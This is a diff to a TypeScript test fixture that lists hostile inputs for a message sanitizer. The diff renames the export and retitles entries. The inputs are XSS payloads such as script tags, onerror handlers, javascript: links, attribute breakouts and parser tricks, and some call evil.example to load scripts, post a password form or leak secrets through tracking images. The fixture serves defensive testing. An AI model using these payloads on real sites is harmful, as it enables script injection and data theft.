@@ -1,12 +1,11 @@
 /**
- * What people, models and imports have tried elsewhere: scripts, links that run, pictures that phone home, markup
- * that covers or clobbers the page, and the parser tricks that got past sanitisers. Whatever becomes of them, the
- * page must hold nothing but what a message may be made of.
+ * Attacks known from elsewhere: scripts, executable links, tracking images, markup that covers or clobbers the
+ * page, and parser tricks that got past sanitizers. For each of them, the page must hold only allowed markup.
  */
-export const payloads: Record<string, string> = {
+export const hostilePayloads: Record<string, string> = {
   'a script': '<script>window.pwned = 1</script>',
   'a script in a paragraph': 'Hello <script>window.pwned = 1</script> world',
-  'a script from elsewhere': '<script src="https://evil.example/x.js"></script>',
+  'a remote script': '<script src="https://evil.example/x.js"></script>',
   'a script over several blocks': '<script>\n\nwindow.pwned = 1\n\n</script>',
   'an image that fails': '<img src=x onerror="window.pwned = 1">',
   'an image that fails, without quotes': '<img/src=x/onerror=window.pwned=1>',
@@ -26,7 +25,7 @@ export const payloads: Record<string, string> = {
     '<link rel="stylesheet" href="https://evil.example/x.css">\n\n<style>@import "https://evil.example/y.css"; * { display: none }</style>',
   'a form':
     '<form action="https://evil.example/" id="login"><input name="password" type="password"><button>Sign in</button></form>',
-  'form parts alone':
+  'form controls without a form':
     '<input autofocus onfocus=window.pwned=1> <textarea>x</textarea> <select><option>y</select> <button formaction="javascript:window.pwned=1">z</button>',
   'an overlay by style':
     '<div style="position:fixed;inset:0;z-index:9999;background:white">Session expired</div>',
@@ -50,19 +49,19 @@ export const payloads: Record<string, string> = {
     '[x](vbscript:msgbox(1)) [y](file:///etc/passwd) [z](blob:https://parley.example/1)',
   'a link without a scheme':
     '[x](//evil.example/a) [y](/api/auth/sign-out) [z](#app) [w](?a=b) [v](evil.example)',
-  'a link with a made-up user': '[x](https://bank.example@evil.example/)',
+  'a link with a fake user name': '[x](https://bank.example@evil.example/)',
   'a title that ends its attribute':
     '[x](https://e.example "\\" onmouseover=\\"window.pwned=1") [y](https://e.example \'"><script>window.pwned=1</script>\')',
   'an address that ends its attribute':
     '[x](https://e.example/"onmouseover="window.pwned=1) [y](https://e.example/\'><img src=x onerror=window.pwned=1>)',
   'a raw link': '<a href="javascript:window.pwned=1" target="_top" ping="https://evil.example/">x</a>',
-  'an image that phones home': '![x](https://evil.example/p.png?d=secret) ![](http://evil.example/p.gif)',
-  'an image by reference that phones home': '![x][b]\n\n[b]: https://evil.example/p.png?d=secret',
-  'a raw image that phones home':
+  'a tracking image': '![x](https://evil.example/p.png?d=secret) ![](http://evil.example/p.gif)',
+  'a tracking image by reference': '![x][b]\n\n[b]: https://evil.example/p.png?d=secret',
+  'a raw tracking image':
     '<img src="https://evil.example/p.png?d=secret"> <picture><source srcset="https://evil.example/q.png"></picture> <video poster="https://evil.example/r.png"></video>',
   'an image of this instance':
     '![x](/api/files/1) ![y](//evil.example/p.png) ![z](javascript:window.pwned=1)',
-  'an svg written out':
+  'an inline svg':
     '![x](data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0icGFyZW50LnB3bmVkPTEiLz4=)',
   'an image alternative with tags': '![<img src=x onerror=window.pwned=1>](https://e.example/x.png)',
   'an image in a link': '[![x](https://evil.example/p.png?d=secret)](https://e.example)',
@@ -79,11 +78,12 @@ export const payloads: Record<string, string> = {
     '<xmp><p title="</xmp><svg/onload=window.pwned=1>"> <title><p title="</title><svg/onload=window.pwned=1>">',
   'a comment that ends early':
     '<!--> <img src=x onerror=window.pwned=1> --> <!-- --!> <svg onload=window.pwned=1> -->',
-  'cdata and instructions':
+  'cdata and processing instructions':
     '<![CDATA[<img src=x onerror=window.pwned=1>]]> <?xml-stylesheet href="https://evil.example/x.css"?> <!ENTITY x "y">',
   'an unfinished tag': '<img src=x onerror=window.pwned=1 //',
   'an unfinished attribute': '<b title="',
-  'a null in a tag': '<scr\u0000ipt>window.pwned=1</scr\u0000ipt> <im\u0000g src=x onerror=window.pwned=1>',
+  'a null character in a tag':
+    '<scr\u0000ipt>window.pwned=1</scr\u0000ipt> <im\u0000g src=x onerror=window.pwned=1>',
   'a custom element':
     '<x-widget is="x" part="y" slot="z">x</x-widget> <slot name="s">y</slot> <dialog open>z</dialog>',
   'a popover': '<b popover id="p">x</b> <button popovertarget="p">y</button> <b contenteditable>z</b>',
@@ -100,15 +100,16 @@ export const payloads: Record<string, string> = {
   'a formula with an image': '$\\includegraphics[height=5em]{https://evil.example/p.png?d=secret}$',
   'a formula with tags':
     '$$<img src=x onerror=window.pwned=1>$$ $\\text{<script>window.pwned=1</script>}$ \\(\\unknown{<b>}\\)',
-  'a formula that grows': '$\\def\\a{\\b\\b}\\def\\b{\\c\\c}\\def\\c{\\d\\d}\\def\\d{\\a\\a}\\a$',
-  'a formula over the page': '$\\rule{9999em}{9999em} \\kern-999em \\raisebox{-999em}{x}$',
+  'a formula that expands without end':
+    '$\\def\\a{\\b\\b}\\def\\b{\\c\\c}\\def\\c{\\d\\d}\\def\\d{\\a\\a}\\a$',
+  'a formula that covers the page': '$\\rule{9999em}{9999em} \\kern-999em \\raisebox{-999em}{x}$',
   'a table with tags':
     '| <script>window.pwned=1</script> | [x](javascript:window.pwned=1) |\n|---|---|\n| <img src=x onerror=window.pwned=1> | ![p](https://evil.example/p.png?d=secret) |',
-  'a folded passage with tags':
+  'a details element with tags':
     '<details onclick=window.pwned=1 style="position:fixed"><summary id="app"><img src=x onerror=window.pwned=1></summary>\n\n<script>window.pwned=1</script>\n\n</details>',
   'a footnote and an attribute list':
     '[^1]\n\n[^1]: <script>window.pwned=1</script>\n\n# Title {#app .fixed onclick=window.pwned=1}',
-  'letters that turn the text around': 'user\u202Etxt.exe [x](https://e.example/\u202Efdp.exe)',
+  'characters that reverse the text direction': 'user\u202Etxt.exe [x](https://e.example/\u202Efdp.exe)',
   'a definition of the prototype':
     '[__proto__] [constructor]\n\n[__proto__]: javascript:window.pwned=1\n[constructor]: https://e.example',
 };
